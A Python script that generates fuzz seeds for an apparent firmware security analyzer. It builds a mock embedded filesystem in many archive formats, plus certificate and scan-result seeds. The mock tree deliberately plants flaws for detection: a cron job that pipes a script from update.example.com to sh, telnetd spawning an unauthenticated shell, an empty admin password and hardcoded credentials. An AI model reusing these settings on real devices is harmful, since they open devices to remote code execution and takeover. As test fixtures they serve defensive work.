#!/usr/bin/env python3
"""Writes seeds for the fuzz targets: small containers made with the tools that are here, and small file trees.

Missing tools only mean fewer seeds. Nothing comes from an image.
"""
import binascii
import os
import pathlib
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "code"))
import programs  # noqa: E402

out = pathlib.Path(sys.argv[1])
nand_writer = pathlib.Path(__file__).resolve().parent.parent / "unpack" / "nand_oob.py"
tree = {
    "etc/passwd": b"root:$1$abcdefgh$sLwVVqR4DnnFy4xB8mJMO1:0:0:root:/root:/bin/sh\nadmin::0:0::/:/bin/sh\n",
    "etc/shadow": b"root:$6$rounds=999999999$salt$x:0:0:99999:7:::\n",
    "etc/inittab": b"::sysinit:/etc/init.d/rcS\n::respawn:/bin/sh\nttyS0::askfirst:-/bin/sh\n",
    "etc/init.d/rcS": b"#!/bin/sh\nmount -t jffs2 /dev/mtdblock3 /data\nif [ -x /usr/sbin/telnetd ]; then telnetd -l /bin/sh & fi\n"
                      b"for i in a b; do case $i in a) httpd -h /www -p 8080;; esac; done\necho 0 > /proc/sys/net/ipv4/tcp_syncookies\n",
    "etc/config/wireless": b"config wifi-iface\n\toption ssid 'x'\n\toption key '12345678'\n",
    "etc/config.xml": b"<a><Password value=\"admin\"/><user name='x'>y</user></a>",
    "etc/nvram.json": b"{\"http_passwd\": \"admin\", \"list\": [1, {\"wpa_psk\": \"abc\"}]}",
    "etc/inetd.conf": b"telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n",
    "etc/crontabs/root": b"*/5 * * * * wget http://update.example.com/x.sh -O- | sh\n",
    "etc/firewall.sh": b"iptables -A INPUT -p tcp --dport 23 -i eth0 -j ACCEPT\n",
    "usr/lib/opkg/status": b"Package: busybox\nVersion: 1.19.4-6\nStatus: install ok installed\n\n",
    "www/index.html": b"<html><body><form action='/cgi-bin/x.cgi'></form></body></html>",
    "key.pem": b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n",
    "bin/app": b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 8, 1, 0x400000, 52, 0, 0, 52, 32, 1, 40, 0, 0) + bytes(64),
}


def put(target, name, data, prefixes=(b"",)):
    folder = out / target
    folder.mkdir(parents=True, exist_ok=True)
    for number, prefix in enumerate(prefixes):
        (folder / f"{name}-{number}").write_bytes(prefix + data)


def archive_of(names):
    data = b""
    for name in names:
        content = tree[name]
        data += struct.pack("<H", 0o755) + name.encode() + b"\0" + struct.pack("<H", len(content)) + content
    return data


def built(command, folder, result, format):
    done = subprocess.run(["bash", "-c", command], cwd=folder, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)
    path = pathlib.Path(folder) / result
    if done.returncode == 0 and path.exists() and path.stat().st_size <= 65000:
        put("formats", result, path.read_bytes(), (b"\0", b"\2"))
        put("single_formats", result, path.read_bytes(), (struct.pack(">H", binascii.crc_hqx(format.encode(), 0)),))


def certificates():
    """The first byte says which reader (certificates.cc)."""
    here = pathlib.Path(__file__).resolve().parents[2]
    for path in (here / "certify/policies").glob("*.yaml"):
        put("certificates", path.stem, path.read_bytes(), (b"\6",))
    for path in (here / "certify/requirements").glob("*.tsv"):
        put("certificates", path.stem, path.read_bytes(), (b"\x11",))
    note = "log/f\n1\n" + "A" * 43 + "=\n\n\u2014 log/f " + "A" * 88 + "AA==\n"
    for name, reader, text in (("note", 2, note), ("checkpoint", 3, note), ("vkey", 4, "log/f+00000000+" + "A" * 44),
                               ("bundle", 5, "\0\3abc\0\1x"), ("declaration", 7, "declaration: 1\nservices:\n  - port: 80\n"),
                               ("arrows", 8, '{"predicate":{"factRoot":"' + "0" * 64 + '","arrows":[["file","a","' + "1" * 64 + '","' + "2" * 64 + '"]]}}'),
                               ("roots", 9, '{"logs":[],"witnesses":[],"cosignatures":0,"keys":[{"name":"a","key":"","roles":["status"],"log":"l","from":0}]}'),
                               ("pem", 10, "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA" + "A" * 43 + "=\n-----END PUBLIC KEY-----\n"),
                               ("path", 11, "tile/entries/x001/x234/067.p/3"),
                               ("nmap", 12, '<nmaprun scanner="nmap"><scaninfo protocol="tcp" services="1-65535"/><host><address addr="a"/><ports>'
                                            '<extraports state="closed" count="9"/><port protocol="tcp" portid="80"><state state="open"/></port>'
                                            '</ports></host><runstats><finished exit="success"/></runstats></nmaprun>'),
                               ("sarif", 13, '{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"t"}},"invocations":[{"executionSuccessful":true}],'
                                             '"results":[{"ruleId":"x"}]}]}'),
                               ("results", 14, "results: 1\ntester: A\ntests:\n  - {ref: a, verdict: PASS, by: A, on: 2026-10-01, method: m, reason: r}\n"),
                               ("evidence", 15, '{"evidence":1,"images":[],"rules":[],"class":"","asOf":"2026-01-01","collections":{"keys":'
                                                '{"complete":true,"why":"","records":[{"a":"b"}]}}}'),
                               ("waiver", 16, '{"payload":"e30=","payloadType":"application/vnd.in-toto+json","signatures":[{"sig":"AA==","keyid":"a"}]}'),
                               ("mud", 18, '{"ietf-mud:mud":{"mud-version":1,"mud-url":"https://a.example"},"ietf-access-control-list:acls":{"acl":[]}}'),
                               ("terms", 19, '{"predicateType":"https://slsa.dev/verification_summary/v1","predicate":{"policy":{}}}'),
                               ("change", 1, "\0\x40\1A")):
        put("certificates", name, text.encode(), (bytes([reader]),))


def lift():
    """Instructions of every form that real programs hold, a hundred a seed; the first byte chooses the machine (lift.cc)."""
    for path in (pathlib.Path(__file__).resolve().parents[1] / "lift/forms").glob("*.txt"):
        words = [line.split()[0] for line in path.read_text().splitlines() if path.stem != "digests"]
        for at in range(0, len(words), 100):
            put("lift", f"{path.stem}-{at}", bytes.fromhex("".join(words[at:at + 100])), tuple(bytes([i]) for i in range(10)))


def main():
    for name in tree:
        put("analyses", name.replace("/", "_"), archive_of([name]))
    put("analyses", "all", archive_of(list(tree)))
    certificates()
    for name, content in {"good": programs.good(), "stripped": programs.stripped(), **programs.hostile()}.items():
        put("code", name, content)
    words = struct.pack(f">{len(programs.code())}I", *programs.code())
    put("code", "words", words, tuple(bytes([i]) for i in range(1, 19)))
    lift()
    put("inputs", "declaration", b"services:\n  - name: ssh\n    protocol: tcp\n    port: 22\naccounts:\n  - name: root\n")
    with tempfile.TemporaryDirectory() as folder:
        for name, content in tree.items():
            path = pathlib.Path(folder) / "t" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
        os.symlink("passwd", f"{folder}/t/etc/link")
        for command, result, format in (
            ("tar cf a.tar t", "a.tar", "tar"), ("cd t && find . | cpio -o -H newc > ../a.cpio", "a.cpio", "cpio"), ("cd t && zip -qr ../a.zip .", "a.zip", "zip"),
            ("gzip -kc a.cpio > a.gz", "a.gz", "gzip"), ("xz -kc a.cpio > a.xz", "a.xz", "xz"), ("xz --format=lzma -kc a.cpio > a.lzma", "a.lzma", "lzma"),
            ("bzip2 -kc a.cpio > a.bz2", "a.bz2", "bzip2"), ("zstd -qkc a.cpio > a.zst", "a.zst", "zstd"), ("lz4 -qkc a.cpio > a.lz4", "a.lz4", "lz4"),
            ("lz4 -qlkc a.cpio > a.lz4l", "a.lz4l", "lz4"), ("lzop -c a.cpio > a.lzo", "a.lzo", "lzop"), ("ar rc a.ar t/etc/passwd t/etc/inittab", "a.ar", "ar"),
            ("mksquashfs t a.sqz -noappend -comp gzip -quiet", "a.sqz", "squashfs"), ("mksquashfs t a.sqx -noappend -comp xz -quiet", "a.sqx", "squashfs"),
            ("mksquashfs t a.sql -noappend -comp lzo -quiet", "a.sql", "squashfs"), ("mkfs.cramfs t a.cramfs", "a.cramfs", "cramfs"), ("genromfs -d t -f a.romfs", "a.romfs", "romfs"),
            ("mkfs.jffs2 -d t -o a.jffs2 -e 4KiB -l", "a.jffs2", "jffs2"), ("mkfs.jffs2 -d t -o b.jffs2 -e 4KiB -b", "b.jffs2", "jffs2"),
            ("mke2fs -q -t ext4 -b 1024 -N 32 -O ^has_journal,^resize_inode -d t a.ext4 60", "a.ext4", "ext"),
            ("truncate -s 60K a.fat && mkfs.fat a.fat && mcopy -i a.fat -s t ::", "a.fat", "fat"),
            ("mkimage -A mips -O linux -T kernel -C none -n x -d a.gz a.uimg", "a.uimg", "uimage"),
            ("echo '/dts-v1/; / { model = \"x\"; chosen { bootargs = \"console=ttyS0\"; }; };' | dtc -o a.dtb", "a.dtb", "dtb"),
            ("printf 'bootdelay=1\\nbootcmd=bootm\\n' | mkenvimage -s 4096 -o a.env -", "a.env", "ubootenv"),
            (f"python3 {nand_writer} hamming-small a.jffs2 a.nand flip=3", "a.nand", "nand"),
        ):
            built(command, folder, result, format)


main()
